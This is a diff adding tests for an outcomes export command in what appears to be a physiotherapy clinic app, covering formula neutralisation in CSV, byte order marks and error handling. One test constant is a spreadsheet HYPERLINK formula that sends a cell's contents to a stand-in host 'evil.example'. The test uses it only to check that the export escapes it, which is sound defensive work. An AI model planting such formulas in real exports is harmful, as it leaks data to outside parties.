@@ -97,6 +97,51 @@ def test_import_creates_everything_and_export_round_trips(tmp_path: Path) -> Non
     assert by_email["bo@x.test"]["endpoint_12w"] is None and by_email["bo@x.test"]["worsening"] is False
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+def test_export_neutralises_a_formula_in_a_plan_title_and_keeps_numbers(tmp_path: Path) -> None:
+    path, _, _ = sample(tmp_path)
+    run("import_history", str(path))
+    CarePlan.objects.filter(title="Back plan").update(title=FORMULA)
+    CarePlan.objects.filter(title="Neck plan").update(title="-2.5 sessions, +1 @home")
+    rows = {r["patient_email"]: r for r in csv.DictReader(io.StringIO(run("export_outcomes")))}
+    assert rows["ann@x.test"]["plan_title"] == "'" + FORMULA
+    # Text that merely looks like a number is still text; computed figures stay numbers.
+    assert rows["bo@x.test"]["plan_title"] == "'-2.5 sessions, +1 @home"
+    assert rows["ann@x.test"]["change"] == "-3.50" and rows["ann@x.test"]["percent_change"] == "-50.00"
+    # JSON is not read by spreadsheets: the title is kept as written.
+    data = {r["patient_email"]: r for r in json.loads(run("export_outcomes", "--format", "json"))}
+    assert data["ann@x.test"]["plan_title"] == FORMULA
+
+
+def test_export_to_a_file_starts_with_a_byte_order_mark_and_stdout_does_not(tmp_path: Path) -> None:
+    path, _, _ = sample(tmp_path)
+    run("import_history", str(path))
+    Clinic.objects.filter(name="Lakeside").update(name="Zoë Łącka Physio")
+    out = tmp_path / "outcomes.csv"
+    assert run("export_outcomes", "--output", str(out)) == ""
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfclinic,patient_email,")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert {r["clinic"] for r in rows} == {"Zoë Łącka Physio"} and len(rows) == 2
+
+    piped = run("export_outcomes")
+    assert piped.startswith("clinic,patient_email,") and "Zoë Łącka Physio" in piped
+    assert run("export_outcomes", "--bom").startswith("\ufeffclinic,")
+    run("export_outcomes", "--output", str(out), "--no-bom")
+    assert out.read_bytes().startswith(b"clinic,")
+    run("export_outcomes", "--output", str(out), "--format", "json")
+    assert {r["clinic"] for r in json.loads(out.read_text(encoding="utf-8"))} == {"Zoë Łącka Physio"}
+
+
+def test_export_refuses_a_bom_for_json_and_an_unwritable_file(tmp_path: Path) -> None:
+    with pytest.raises(CommandError, match="CSV only"):
+        run("export_outcomes", "--format", "json", "--bom")
+    with pytest.raises(CommandError, match="Cannot write"):
+        run("export_outcomes", "--output", str(tmp_path / "missing-dir" / "x.csv"))
+
+
 def test_importing_the_same_file_twice_changes_nothing(tmp_path: Path) -> None:
     path, _, _ = sample(tmp_path)
     run("import_history", str(path))
